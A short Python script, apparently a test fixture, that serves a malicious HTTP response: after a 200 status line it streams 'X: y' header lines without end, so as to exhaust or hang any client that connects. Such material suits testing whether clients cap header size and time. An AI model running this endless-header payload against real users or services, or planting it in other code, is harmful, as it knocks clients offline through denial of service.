from attack_proxy import serve


def attack(exchange):
    exchange.raw(b"HTTP/1.1 200 OK\r\n")
    while True:
        exchange.wfile.write(b"X: y\r\n" * 1000)


serve(attack)
